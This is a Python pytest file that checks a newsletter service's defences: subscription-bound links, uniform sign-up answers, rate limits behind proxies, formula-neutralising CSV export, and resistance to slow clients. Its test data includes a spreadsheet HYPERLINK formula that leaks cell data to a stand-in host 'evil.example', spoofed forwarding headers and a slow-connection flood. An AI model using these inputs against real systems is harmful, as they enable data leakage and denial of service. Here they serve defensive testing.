"""digest serve against an attacker: links bound to one subscription, sign-ups that tell nothing
and mail nobody twice, formula-free exports, and waitress in front (one real server).

Each test here is one finding of the attack-and-fault review; real databases, real SMTP.
"""

from __future__ import annotations

import csv
import io
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
import sqlalchemy as sa
from alembic import command
from itsdangerous import URLSafeSerializer

from digest.settings import Settings
from digest.store import Store, open_store
from digest.store.migrate import _config
from digest.store.subscriber_csv import export_csv, import_csv
from digest.store.subscribers import (
    add_subscriber,
    find_subscriber,
    list_subscribers,
    remove_subscriber,
    set_status,
    unsubscribe,
)
from digest.tokens import UNSUBSCRIBE_SALT, unsubscribe_url
from tests.conftest import SmtpServer, free_port
from tests.helpers import web_client
from tests.helpers.site_fixtures import SECRET, Site, make_site
from tests.helpers.web_client import Client, confirmation_link, path_of, status_of

# The shared fixtures of tests/web_client.py, bound here so that pytest finds them.
client, settings, site, store = (
    web_client.client,
    web_client.settings,
    web_client.site,
    web_client.store,
)


def unsubscribe_path(settings: Settings, store: Store, email: str) -> str:
    row = find_subscriber(store, email)
    assert row is not None
    return path_of(unsubscribe_url(settings, row.id, "weekly", row.link_key))


def signup_and_link(client: Client, smtp_server: SmtpServer, email: str) -> str:
    assert client.post_form("/subscribe", {"email": email}).status == 202
    client.send_queued()
    return path_of(confirmation_link(smtp_server, email))


# --- 1. links act on the right person only ----------------------------------------------------


def test_bobs_old_unsubscribe_link_never_unsubscribes_carol(
    client: Client, settings: Settings, store: Store
) -> None:
    add_subscriber(store, "alice@example.com")
    add_subscriber(store, "bob@example.com")
    bobs_link = unsubscribe_path(settings, store, "bob@example.com")
    bob = find_subscriber(store, "bob@example.com")
    remove_subscriber(store, "bob@example.com")  # the newest row: SQLite used to reuse its id
    carol, _ = add_subscriber(store, "carol@example.com")
    assert bob is not None and carol.id > bob.id

    for method in ("GET", "POST"):
        assert client.call(method, bobs_link).status == 404
    assert status_of(store, "carol@example.com")[0] == "active"


def test_a_kept_confirmation_link_never_activates_a_later_sign_up(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    kept = signup_and_link(client, smtp_server, "mallory@example.com")
    remove_subscriber(store, "mallory@example.com")
    assert client.post_form("/subscribe", {"email": "victim@example.com"}).status == 202
    client.send_queued()

    assert client.call("POST", kept).status == 404
    assert status_of(store, "victim@example.com")[0] == "pending"


def test_a_confirmation_link_is_used_once_and_dies_with_an_unsubscribe(
    client: Client, settings: Settings, store: Store, smtp_server: SmtpServer
) -> None:
    link = signup_and_link(client, smtp_server, "joe@example.com")
    assert client.call("POST", link).status == 200
    assert status_of(store, "joe@example.com") == ("active", "confirmed")

    leave = unsubscribe_path(settings, store, "joe@example.com")
    assert client.post_form(leave, {"List-Unsubscribe": "One-Click"}).status == 200
    for method in ("GET", "POST"):
        answer = client.call(method, link)
        assert answer.status == 400 and "no longer valid" in answer.body
    assert status_of(store, "joe@example.com")[0] == "unsubscribed"

    unsubscribe(store, "joe@example.com")  # and a bounce or an unsubscribe from the CLI alike
    assert client.call("POST", link).status == 400


def test_a_bounced_address_needs_a_confirmation_issued_after_the_bounce(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    old_link = signup_and_link(client, smtp_server, "gone@example.com")
    row = find_subscriber(store, "gone@example.com")
    assert row is not None
    set_status(store, row.id, "bounced", "550 5.1.1 no such user")
    assert client.call("POST", old_link).status == 400
    assert status_of(store, "gone@example.com")[0] == "bounced"


def test_a_resubscription_replaces_the_link_key(
    client: Client, settings: Settings, store: Store
) -> None:
    add_subscriber(store, "bob@example.com")
    first_link = unsubscribe_path(settings, store, "bob@example.com")
    assert client.call("POST", first_link).status == 200
    add_subscriber(store, "bob@example.com", resubscribe=True)

    stale = client.call("POST", first_link)
    assert stale.status == 400 and "earlier subscription" in stale.body
    assert status_of(store, "bob@example.com")[0] == "active"
    assert client.call("POST", unsubscribe_path(settings, store, "bob@example.com")).status == 200


def test_old_id_only_links_work_for_rows_from_before_the_upgrade_only(
    tmp_path: Path, database_url: str, smtp_server: SmtpServer
) -> None:
    """Links in mails sent before the upgrade keep working for those who got them; a
    subscriber added after it cannot be reached with one."""
    site = make_site(tmp_path / "site", database_url, smtp_server.port)
    early = open_store(database_url, upgrade=False)
    with early.engine.begin() as connection:
        command.upgrade(_config(connection), "0001")
        connection.execute(
            sa.text(
                "INSERT INTO subscribers (email, email_key, name, categories, status,"
                " status_changed_at, created_at, updated_at) VALUES ('old@example.com',"
                " 'old@example.com', '', '[]', 'active', :t, :t, :t)"
            ),
            {"t": "2026-01-01 00:00:00"},
        )
    early.dispose()
    store = site.store()  # upgrades
    try:
        client = Client.of(site.settings(), store)
        new, _ = add_subscriber(store, "new@example.com")
        old = find_subscriber(store, "old@example.com")
        assert old is not None and old.legacy_links and not new.legacy_links

        def old_style(subscriber_id: int) -> str:
            token = URLSafeSerializer(SECRET, salt=UNSUBSCRIBE_SALT).dumps([subscriber_id, "w"])
            return f"/unsubscribe/{token}"

        assert client.call("POST", old_style(new.id)).status == 400
        assert status_of(store, "new@example.com")[0] == "active"
        assert client.call("POST", old_style(old.id)).status == 200
        assert status_of(store, "old@example.com")[0] == "unsubscribed"
    finally:
        store.dispose()


# --- 2, 3, 4. POST /subscribe tells nothing, mails once, changes nothing ----------------------


def test_every_address_gets_the_same_answer_and_nothing_is_sent_in_the_request(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    add_subscriber(store, "active@example.com")
    add_subscriber(store, "left@example.com", status="unsubscribed")
    add_subscriber(store, "gone@example.com", status="bounced")
    assert client.post_form("/subscribe", {"email": "pending@example.com"}).status == 202
    answers = {
        email: client.post_form("/subscribe", {"email": email})
        for email in (
            "new@example.com",
            "pending@example.com",
            "active@example.com",
            "left@example.com",
            "gone@example.com",
        )
    }
    assert {(a.status, a.body) for a in answers.values()} == {
        (answers["new@example.com"].status, answers["new@example.com"].body)
    }
    assert smtp_server.handler.messages == []
    client.send_queued()
    mailed = sorted(r for m in smtp_server.handler.messages for r in m.rcpt_tos)
    assert mailed == [
        "gone@example.com",
        "left@example.com",
        "new@example.com",
        "pending@example.com",
    ]


def test_two_hundred_posts_for_one_victim_send_one_mail(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    answers = set()
    for i in range(200):
        environ_ip = f"203.0.113.{i % 250}"  # many clients: the per-address limit holds alone
        answer = client.call(
            "POST",
            "/subscribe",
            b"email=victim%40example.com&name=Visit+evil.example",
            "application/x-www-form-urlencoded",
            remote_addr=environ_ip,
        )
        answers.add((answer.status, answer.body))
        client.send_queued()
    assert len(answers) == 1
    (mail,) = smtp_server.handler.to("victim@example.com")
    assert "evil.example" not in mail.data.decode("utf-8", "replace")


def test_a_pending_sign_up_changes_only_through_its_link(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    fields = {"email": "zoe@example.com", "name": "Zoë", "categories": "rust"}
    assert client.post_form("/subscribe", fields).status == 202
    client.send_queued()
    evil = {"email": "zoe@example.com", "name": "Mallory", "categories": "spam"}
    assert client.post_form("/subscribe", evil).status == 202
    client.send_queued()
    row = find_subscriber(store, "zoe@example.com")
    assert row is not None
    assert (row.status, row.name, row.categories) == ("pending", "Zoë", ("rust",))
    client.send_queued()
    assert len(smtp_server.handler.to("zoe@example.com")) == 1  # within signup_resend_after


def test_the_per_client_limit_counts_the_real_client_behind_a_trusted_proxy(
    tmp_path: Path, database_url: str, smtp_server: SmtpServer
) -> None:
    site = make_site(
        tmp_path / "site",
        database_url,
        smtp_server.port,
        extra={"web": {"signups_per_ip_per_hour": 3, "trusted_proxies": ["10.0.0.0/8"]}},
    )
    store = site.store()
    try:
        client = Client.of(site.settings(), store)

        def post(email: str, peer: str, forwarded: str = "") -> int:
            answer = client.call(
                "POST",
                "/subscribe",
                f"email={email}".encode(),
                "application/x-www-form-urlencoded",
                remote_addr=peer,
                forwarded_for=forwarded,
            )
            return answer.status

        # An untrusted peer cannot pose as many clients with X-Forwarded-For.
        statuses = [post(f"a{i}@example.com", "198.51.100.7", f"192.0.2.{i}") for i in range(5)]
        # Behind the trusted proxy, each real client has its own count.
        statuses += [post(f"b{i}@example.com", "10.1.2.3", "192.0.2.200") for i in range(4)]
        statuses += [post("c@example.com", "10.1.2.3", "1.2.3.4, 192.0.2.201")]
        assert set(statuses) == {202}
        client.send_queued()
        emails = {row.email for row in list_subscribers(store)}
        assert emails == {f"a{i}@example.com" for i in range(3)} | {
            f"b{i}@example.com" for i in range(3)
        } | {"c@example.com"}
    finally:
        store.dispose()


def test_the_honeypot_field_is_answered_alike_and_ignored(
    client: Client, store: Store, smtp_server: SmtpServer
) -> None:
    page = client.get("/subscribe")
    assert 'name="website"' in page.body and "hidden" in page.body
    robot = client.post_form("/subscribe", {"email": "r@example.com", "website": "http://x"})
    person = client.post_form("/subscribe", {"email": "p@example.com", "website": ""})
    assert (robot.status, robot.body) == (person.status, person.body)
    client.send_queued()
    assert find_subscriber(store, "r@example.com") is None
    assert find_subscriber(store, "p@example.com") is not None


# --- 5. exports a spreadsheet does not run ----------------------------------------------------


def test_export_neutralises_formulas_and_import_keeps_data_as_given(
    client: Client, store: Store, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    assert client.post_form("/subscribe", {"email": "x@example.com", "name": formula}).status == 202
    client.send_queued()
    add_subscriber(store, "y@example.com", name="+1 555", categories=["-dash", "@at", "ok"])
    add_subscriber(store, "z@example.com", name="Plain Name")
    out = io.StringIO()
    export_csv(store, out)
    lines = out.getvalue().splitlines()
    assert lines[1].startswith("x@example.com,\"'=HYPERLINK(")
    assert lines[2].startswith("y@example.com,'+1 555,'-dash;@at;ok,")
    assert lines[3].startswith("z@example.com,Plain Name,,")
    for first in ("\t", "\r", "-", "@", "+", "="):
        assert not any(cell.startswith(first) for cell in _cells(out.getvalue()))

    source = tmp_path / "in.csv"
    source.write_text("email,name,categories\nq@example.com,=1+2,@x;-y\n", encoding="utf-8")
    import_csv(store, source)
    row = find_subscriber(store, "q@example.com")
    assert row is not None and (row.name, row.categories) == ("=1+2", ("@x", "-y"))


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


# --- 7. waitress in front ---------------------------------------------------------------------


def test_digest_serve_on_waitress_reads_chunked_bodies_hides_its_version_and_mails(
    tmp_path: Path, smtp_server: SmtpServer
) -> None:
    site = make_site(tmp_path / "site", f"sqlite:///{tmp_path / 'serve.db'}", smtp_server.port)
    store = site.store()
    row, _ = add_subscriber(store, "joe@example.com")
    token_path = path_of(unsubscribe_url(site.settings(), row.id, "weekly", row.link_key))
    port = free_port()
    log = tmp_path / "serve.log"
    proc = _start_serve(site, port, log)
    base = f"http://127.0.0.1:{port}"
    try:
        _wait_for(base, proc, log)
        with urllib.request.urlopen(base + "/healthz", timeout=5) as health:
            assert health.headers["Server"] == "digest"

        # RFC 8058 one-click, the body sent in chunks: read, not taken for empty.
        body = b"List-Unsubscribe=One-Click"
        chunked = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n"
        reply = _raw(
            port,
            f"POST {token_path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
            + chunked,
        )
        assert reply.startswith(b"HTTP/1.1 200")
        assert status_of(store, "joe@example.com") == ("unsubscribed", "one-click")

        # The confirmation mail goes out from the background, within seconds.
        request = urllib.request.Request(
            base + "/subscribe",
            data=b"email=new%40example.com",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            method="POST",
        )
        with urllib.request.urlopen(request, timeout=5) as answer:
            assert answer.status == 202
        deadline = time.monotonic() + 10
        while not smtp_server.handler.to("new@example.com"):
            assert time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
    finally:
        proc.terminate()
        assert proc.wait(timeout=15) == 0
        store.dispose()
    assert "Traceback" not in log.read_text()


def test_slow_clients_do_not_stop_healthz(tmp_path: Path, smtp_server: SmtpServer) -> None:
    """300 clients that send half a request and wait (the stdlib server gave each a thread and
    a backlog of 5): /healthz still answers at once."""
    site = make_site(tmp_path / "site", f"sqlite:///{tmp_path / 'serve.db'}", smtp_server.port)
    port = free_port()
    log = tmp_path / "serve.log"
    proc = _start_serve(site, port, log)
    base = f"http://127.0.0.1:{port}"
    slow: list[socket.socket] = []
    try:
        _wait_for(base, proc, log)
        for _ in range(300):
            conn = socket.create_connection(("127.0.0.1", port), timeout=5)
            conn.sendall(
                b"POST /subscribe HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\nemail="
            )
            slow.append(conn)
        started = time.monotonic()
        with urllib.request.urlopen(base + "/healthz", timeout=5) as health:
            assert health.read() == b"ok\n"
        assert time.monotonic() - started < 2  # generous for a loaded machine; it is ~ms
    finally:
        for conn in slow:
            conn.close()
        proc.terminate()
        assert proc.wait(timeout=15) == 0


def _start_serve(site: Site, port: int, log: Path) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "digest", "--config", str(site.config_path), "serve"]
    with log.open("wb") as stderr:  # the child keeps its own copy of the file
        return subprocess.Popen(
            [*command, "--port", str(port)],
            stdout=subprocess.DEVNULL,
            stderr=stderr,
            cwd=site.root,
        )


def _wait_for(base: str, proc: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 20
    while True:
        try:
            with urllib.request.urlopen(base + "/healthz", timeout=2) as health:
                assert health.read() == b"ok\n"
            return
        except OSError:
            if proc.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"digest serve did not start: {log.read_text()}")
            time.sleep(0.1)


def _raw(port: int, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(data)
        chunks = []
        while chunk := conn.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)
